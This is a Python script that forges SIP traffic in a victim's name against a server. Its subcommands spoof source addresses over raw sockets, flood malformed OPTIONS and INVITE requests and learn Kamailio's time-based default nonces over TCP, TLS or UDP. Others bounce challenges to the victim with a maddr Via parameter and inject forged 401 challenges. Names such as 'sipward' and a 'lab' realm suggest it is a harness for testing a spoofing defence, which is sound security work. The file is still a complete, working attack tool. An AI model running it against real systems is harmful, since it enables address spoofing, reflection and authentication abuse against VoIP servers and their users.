#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Forges proofs: packets with somebody else's address that carry what the server was made to send
there, though the attacker chose it himself. Prints how many packets it sent, and how
many nonces it learned."""

import argparse
import ipaddress
import os
import socket
import ssl
import time

import sip
from raw import Wire, datagram

SERVER = os.environ["SERVER"]
BAD_CSEQ = "x"


class Forger:
    def __init__(self, options):
        self.wire = Wire()
        self.options = options
        self.victim = (options.victim, options.sport)
        self.sent = self.learned = 0

    def send(self, text, source=None, gap=0.005):
        address, port = source or self.victim
        self.wire.send(datagram(address, SERVER, text, port, ttl=self.options.ttl))
        self.sent += 1
        time.sleep(gap)

    def request(self, method, user, source=None, gap=0.005, **part):
        self.send(sip.request(method, user, SERVER, source or self.victim, **part), source, gap)

    def believe_tags(self):
        """Requests whose To-tags differ from their first octets on. The answers repeat them."""
        for _ in range(12):
            self.request("OPTIONS", "call", to_tag=sip.token())
        time.sleep(0.2)


def malformed(forger, call_id, to_tag, count=35):
    for _ in range(count):
        forger.request("OPTIONS", "call", call_id=call_id, to_tag=to_tag, cseq=BAD_CSEQ)


def echo(forger):
    """The answer to an OPTIONS repeats the To-tag that the attacker chose."""
    call_id, to_tag = sip.token(), sip.token()
    forger.believe_tags()
    forger.request("OPTIONS", "call", call_id=call_id, to_tag=to_tag)
    time.sleep(0.2)
    malformed(forger, call_id, to_tag)


def nobody(forger):
    """INVITEs with To-tags of his own for users who do not exist, and their ACKs."""
    forger.believe_tags()
    calls = [(f"9{number}", sip.token(), sip.token()) for number in range(30)]
    for user, call_id, to_tag in calls:
        forger.request("INVITE", user, call_id=call_id, to_tag=to_tag)
    time.sleep(0.3)
    for user, call_id, to_tag in calls:
        forger.request("ACK", user, call_id=call_id, to_tag=to_tag, cseq="1 ACK")


def crowd(forger):
    """Two packets each in the name of many addresses."""
    first = ipaddress.ip_address("198.18.0.1")
    calls = [((str(first + 7 * n), 5060), sip.token(), sip.token())
             for n in range(forger.options.count)]
    forger.believe_tags()
    for _ in range(2):
        for source, call_id, to_tag in calls:
            forger.request("OPTIONS", "call", source, call_id=call_id, to_tag=to_tag)
        time.sleep(0.3)


def overwrite(forger):
    """Two packets in the name of a known endpoint, with another TTL."""
    call_id, to_tag = sip.token(), sip.token()
    forger.believe_tags()
    for _ in range(5):
        forger.request("OPTIONS", "call", call_id=call_id, to_tag=to_tag)
        time.sleep(0.1)


def response(sock):
    """What the server answers; the agent's probe is none."""
    while True:
        text = sock.recv(65536)
        if text.startswith(b"SIP/2.0"):
            return text


def replay(forger):
    """A nonce and a dialog that are really the attacker's own, used in the victim's name."""
    own = (forger.options.own, 5098)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(own)
        sock.connect((SERVER, 5060))
        sock.settimeout(0.5)
        sock.send(sip.request("REGISTER", "100", SERVER, own))
        nonce = sip.nonce(response(sock))
        forger.learned += bool(nonce)
        sock.send(sip.request("INVITE", "9000", SERVER, own, call_id="replayed"))
        text = response(sock)
    forger.believe_tags()
    to_tag = sip.header(text, "To").partition("tag=")[2]
    for _ in range(15):
        forger.request("REGISTER", "100", login=sip.credentials(nonce))
    malformed(forger, "replayed", to_tag)


def nonce_by(forger):
    """Where the attacker reads the nonce of this second."""
    o = forger.options
    own = (o.own, 5099)
    if o.way == "udp":  # a port that sipward is not told of
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind(own)
            sock.settimeout(0.5)
            sock.connect((SERVER, o.port))
            sock.send(sip.request("REGISTER", "100", SERVER, own))
            return sip.nonce(response(sock))
    with socket.create_connection((SERVER, o.port), 1) as sock:
        if o.way == "tls":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            sock = context.wrap_socket(sock)
        text = sip.request("REGISTER", "100", SERVER, own, transport=o.way.upper())
        if o.way == "tcp-behind":  # the challenge leaves behind another answer, in one segment
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2304)
            part = sip.request("OPTIONS", "call", SERVER, own, transport="TCP")
            sock.sendall(part * 40 + sip.request("REGISTER", "100", SERVER, own, transport="TCP"))
            time.sleep(0.2)
        else:
            sock.sendall(text)
        received = b""
        while not sip.nonce(received):
            part = sock.recv(65536)
            if not part:
                return ""
            received += part
        return sip.nonce(received)


def nonces(forger):
    """Kamailio's default nonce is that of the second: the attacker reads it over a way of his own,
    makes the server send it to the victim too, and fails to log in with it."""
    for _ in range(forger.options.seconds):
        time.sleep(1.02 - time.time() % 1)
        forger.request("REGISTER", "100")
        try:
            nonce = nonce_by(forger)
        except OSError:
            nonce = ""
        if not nonce:
            continue
        forger.learned += 1
        for _ in range(5):
            forger.request("REGISTER", "100", login=sip.credentials(nonce))


def maddr(forger):
    """A challenge that is for the attacker goes to the victim, by maddr in Via (RFC 3261
    18.2.2). He asks once more in the same second, and has the nonce himself."""
    o = forger.options
    own = (o.own, 5097)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(own)
        sock.connect((SERVER, 5060))
        sock.settimeout(0.5)
        for _ in range(o.seconds):
            time.sleep(1.02 - time.time() % 1)
            text = sip.request("REGISTER", "100", SERVER, own)
            sock.send(text.replace(b";branch", f";maddr={o.victim};branch".encode()))
            time.sleep(0.05)
            sock.send(sip.request("REGISTER", "100", SERVER, own))
            nonce = sip.nonce(response(sock))
            forger.learned += bool(nonce)
            for _ in range(5):
                forger.request("REGISTER", "100", login=sip.credentials(nonce))


def challenge(forger):
    """A challenge to a REGISTER of the victim's, with a nonce that the attacker chose: the server
    forwards it by its second Via."""
    o = forger.options
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((o.own, 5096))
        for number in range(3):
            branch, nonce = "z9hG4bK" + sip.token(), f"chosen{sip.token()}"
            text = sip.request("REGISTER", "100", SERVER, forger.victim, branch=branch)
            forger.send(text, gap=0.2)
            text = sip.answer(text, 401, "Unauthorized", headers='WWW-Authenticate: Digest '
                              f'realm="lab", nonce="{nonce}"\r\n')
            above = f"Via: SIP/2.0/UDP {SERVER}:5060;branch=z9hG4bKx{number}\r\nVia:"
            sock.sendto(text.replace(b"Via:", above.encode(), 1), (SERVER, 5060))
            time.sleep(0.2)
            for _ in range(16):
                forger.request("REGISTER", "100", login=sip.credentials(nonce), gap=0.02)


COMMANDS = {"echo": echo, "nobody": nobody, "crowd": crowd, "overwrite": overwrite,
            "replay": replay, "nonces": nonces, "maddr": maddr,
            "challenge": challenge}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--own")
    parser.add_argument("--victim", required=True)
    parser.add_argument("--sport", type=int, default=5060)
    parser.add_argument("--ttl", type=int, default=64)
    parser.add_argument("--count", type=int, default=800)
    parser.add_argument("--seconds", type=int, default=4)
    parser.add_argument("--way", default="tls")
    parser.add_argument("--port", type=int, default=5061)
    parser.add_argument("command", choices=COMMANDS)
    options = parser.parse_args()
    forger = Forger(options)
    COMMANDS[options.command](forger)
    print(forger.sent, forger.learned)


if __name__ == "__main__":
    main()
